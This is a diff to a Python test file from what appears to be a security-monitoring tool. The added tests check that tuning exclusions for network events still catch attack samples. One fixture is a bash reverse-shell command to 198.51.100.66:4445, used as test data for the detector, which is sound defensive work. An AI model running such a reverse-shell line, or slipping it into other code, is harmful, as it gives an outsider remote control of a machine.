@@ -5,13 +5,14 @@ from collections import defaultdict
 from pathlib import Path
 from typing import Any
 
+import numpy as np
 import orjson
 import re2
 
 from tetratui.core.events.kinds import KIND_OF_KEY, Kind
-from tetratui.core.exclusion import Exclusion, Pattern
+from tetratui.core.exclusion import Exclusion, Pattern, SocketMatch
 from tetratui.core.noise.commands import Commands
-from tetratui.core.table import EventTable
+from tetratui.core.table import EventTable, table_of
 from tetratui.core.tuning.safety.attack_samples import example, in_context, recorded
 from tetratui.core.tuning.scopes.scopes import TuningContext
 
@@ -90,3 +91,32 @@ def test_an_example_of_a_template_matches_it(capture: EventTable, context: Tunin
     for binary, arguments in seen:
         pattern = commands.template(binary, arguments)
         assert re2.search(pattern.re2(), example(pattern))
+
+
+REVERSE = '-c "bash -i >& /dev/tcp/198.51.100.66/4445 0>&1"'
+
+
+def test_the_connection_of_an_attack_sample_is_protected_like_its_exec(lines: Any) -> None:
+    connect = lines.connect("198.51.100.66", 4445, binary="/usr/bin/bash", arguments=REVERSE)
+    context = TuningContext(table_of([connect]))
+    for name in ("exact", "command", "template", "caller", "destination", "network", "policy"):
+        exclusions = context.built(name, np.arange(1))
+        refused = context.shield.refuses(exclusions)
+        # Under the parent of this event no sample was recorded; the command alone is one.
+        assert (refused is not None) == (name not in {"exact", "caller"}), name
+    assert context.scopes_of([0]).default is None
+
+
+def test_connections_elsewhere_of_everyday_commands_may_go(lines: Any) -> None:
+    health = lines.connect("10.1.2.3", 8080, binary="/usr/bin/curl", arguments="-s http://10.1.2.3:8080/health")
+    context = TuningContext(table_of([health]))
+    assert context.scopes_of([0]).default == "destination"
+    pattern = (Pattern.exactly("/usr/bin/curl"),)
+    inside = Exclusion((Kind.KPROBE,), pattern, socket=SocketMatch(("10.0.0.0/8",)))
+    # One sample names no address: where its hooks would connect is not known.
+    assert {attack_sample.name for attack_sample in context.shield.hidden([inside])} <= {
+        "secret-arg",
+        "private-connect",
+        "metadata",
+    }
+    assert context.shield.hidden([Exclusion((Kind.KPROBE,), pattern)])
